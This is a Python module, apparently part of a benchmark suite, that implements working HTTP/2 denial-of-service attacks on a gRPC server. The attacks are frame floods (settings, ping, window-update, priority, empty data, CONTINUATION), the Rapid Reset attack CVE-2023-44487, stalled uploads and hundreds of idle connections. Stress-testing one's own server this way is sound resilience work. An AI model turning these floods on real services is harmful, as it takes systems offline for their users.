"""Attacks on HTTP/2 itself: frames that a client may send, and no client would send so many of."""

from __future__ import annotations

import contextlib
import select
import socket
from collections.abc import Callable
from multiprocessing.synchronize import Event

from hpack import Encoder
from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    Frame,
    HeadersFrame,
    PingFrame,
    PriorityFrame,
    RstStreamFrame,
    SettingsFrame,
    WindowUpdateFrame,
)

from benchmarks.http2 import Connection, LoadError, exchange

_PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
_FRAMES_AT_ONCE = 500
_MIB = 2**20


class RawConnection:
    """A connection that sends whatever frames it is told to, and throws away what comes back."""

    def __init__(self, address: str) -> None:
        host, _, port = address.rpartition(":")
        self._socket = socket.create_connection((host, int(port)), timeout=5)
        self._encoder = Encoder()
        self._next_stream_id = 1
        settings = SettingsFrame(0, settings={SettingsFrame.INITIAL_WINDOW_SIZE: _MIB})
        self._socket.sendall(_PREFACE + settings.serialize())

    def send(self, *frames: Frame) -> None:
        """Send frames; raises OSError where the server has cut the connection off."""
        self._socket.sendall(b"".join(frame.serialize() for frame in frames))
        while select.select([self._socket], [], [], 0)[0]:
            if not self._socket.recv(_MIB):
                raise ConnectionError

    def call(self, method: str, ends_headers: bool = True) -> HeadersFrame:
        """The headers of a new call."""
        frame = HeadersFrame(self._next_stream_id)
        self._next_stream_id += 2
        frame.data = self._encoder.encode(
            [
                (":method", "POST"),
                (":scheme", "http"),
                (":path", method),
                (":authority", "server"),
                ("content-type", "application/grpc"),
                ("te", "trailers"),
            ]
        )
        if ends_headers:
            frame.flags.add("END_HEADERS")
        return frame

    def close(self) -> None:
        """Leave."""
        self._socket.close()


STEP = "/ntm.v1.SessionService/Step"


def _flooding(make: Callable[[RawConnection], list[Frame]]) -> Callable[[str, Event], None]:
    """An attack that sends the same frames again and again, on a new connection where it was cut off."""

    def attack(address: str, stop: Event) -> None:
        while not stop.is_set():
            with contextlib.suppress(OSError), contextlib.closing(RawConnection(address)) as connection:
                frames = make(connection)
                while not stop.is_set():
                    connection.send(*frames)

    return attack


settings_flood = _flooding(
    lambda _: [SettingsFrame(0, settings={SettingsFrame.MAX_FRAME_SIZE: 16384})] * _FRAMES_AT_ONCE
)
ping_flood = _flooding(lambda _: [PingFrame(0, opaque_data=b"12345678")] * _FRAMES_AT_ONCE)
window_flood = _flooding(lambda _: [WindowUpdateFrame(0, window_increment=1)] * _FRAMES_AT_ONCE)
priority_flood = _flooding(
    lambda _: [PriorityFrame(1, depends_on=0, stream_weight=1, exclusive=False)] * _FRAMES_AT_ONCE
)
empty_data_flood = _flooding(
    lambda connection: [connection.call(STEP), *[DataFrame(1, data=b"")] * _FRAMES_AT_ONCE]
)


def continuation_flood(address: str, stop: Event) -> None:
    """Headers that never end."""
    while not stop.is_set():
        with contextlib.suppress(OSError), contextlib.closing(RawConnection(address)) as connection:
            connection.send(connection.call(STEP, ends_headers=False))
            while not stop.is_set():
                connection.send(*[ContinuationFrame(1, data=b"\x00\x01a\x01b" * 20)] * 100)


def rapid_reset(address: str, stop: Event) -> None:
    """Calls that are begun and cancelled at once (CVE-2023-44487)."""
    while not stop.is_set():
        with contextlib.suppress(OSError), contextlib.closing(RawConnection(address)) as connection:
            while not stop.is_set():
                frames: list[Frame] = []
                for _ in range(100):
                    headers = connection.call(STEP)
                    frames += [headers, RstStreamFrame(headers.stream_id, error_code=8)]
                connection.send(*frames)


def stalled_uploads(address: str, stop: Event) -> None:
    """200 calls that send all but the end of a request of 4 MB, as the server takes it in, and then nothing."""
    connections = [Connection(address) for _ in range(20)]
    for connection in connections:
        for _ in range(10):
            stream = connection.open(STEP, None)
            connection.send(stream, bytes(4 * _MIB), ends=False)
            del stream.unsent[-1000:]
    while not stop.is_set():
        with contextlib.suppress(LoadError):
            exchange(connections, 0.1)
    for connection in connections:
        connection.close()


def idle_connections(address: str, stop: Event) -> None:
    """600 connections that say nothing."""
    host, _, port = address.rpartition(":")
    connections = []
    for _ in range(600):
        with contextlib.suppress(OSError):
            connections.append(socket.create_connection((host, int(port)), timeout=1))
        if stop.is_set():
            break
    stop.wait()
    for connection in connections:
        connection.close()
